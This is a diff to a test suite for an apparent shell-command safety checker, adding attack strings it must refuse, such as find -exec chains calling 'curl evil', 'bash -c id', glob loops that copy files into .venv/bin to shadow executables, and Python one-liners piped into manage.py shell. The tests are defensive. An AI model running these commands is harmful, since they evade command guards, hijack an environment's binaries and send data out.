@@ -1759,6 +1759,18 @@ print $1 > $2}' x
         n=3; find sub -exec printf %s {} "$n;" -exec curl evil {} +
         n=3; find sub -exec printf %s {} "+$n" -exec curl evil {} +
         for e in ';'; do find sub -exec printf %s {} $e -exec curl evil {} +; done
+        for f in ?; do find sub -exec echo {} "$f" -exec bash -c id ';' -exec echo {} +; done
+        for f in *; do find sub -exec echo {} "$f" -exec printenv X ';' -exec echo {} +; done
+        for f in ??; do find sub -name a -exec iconv -o "$f" x.py {} ';'; done
+        for f in ech?; do cp "$f" ".venv/bin/$f"; done
+        for d in .ven?; do for f in ech?; do cp "./$f" "$d/bin/$f"; done; done
+        for f in y*; do mkdir -p ".venv/bin/d$f"; done
+        for f in y*; do echo x > ".venv/$f"; done
+        for f in y*; do echo x > "./-$f"; done
+        echo 'import os; os.system("id")' | python3 ./manage.py shel?
+        for f in shel?; do echo 'import os; os.system("id")' | python3 manage.py "$f"; done
+        for f in manage.p?; do echo 'import os; os.system("id")' | python3 ./"$f" shell; done
+        for f in -?; do bash ./x.sh "$f" 'id; ls'; done
         x=$(ls); find sub -exec echo {} a$x exec curl evil {} +
         find sub -exec echo {} * exec curl evil {} +
         find sub -exec echo {} ?x exec curl evil {} +
@@ -2468,6 +2480,14 @@ def verdict(command: object, **beside: object) -> str:
 @pytest.mark.parametrize("group", ATTACKS)
 def test_the_attacks_of_a_group(ws: pathlib.Path, group: str) -> None:
     assert [text for text in commands(ATTACKS[group]) if verdict(text) == "allow"] == []
+
+
+def test_a_loop_puts_nothing_new_where_its_pattern_leads(ws: pathlib.Path) -> None:
+    (ws / "venv" / "bin").mkdir(parents=True)
+    (ws / "echo").write_text("")
+    for text in ('for f in ech?; do cp "./$f" "./$d/bin/$f"; done', 'touch "$d/bin/x"'):
+        assert verdict(f"for d in ven?; do {text}; done") != "allow"
+        assert verdict(f"for d in su?; do {text}; done") == "allow"
 
 
 def test_patterns_that_begin_an_argument(
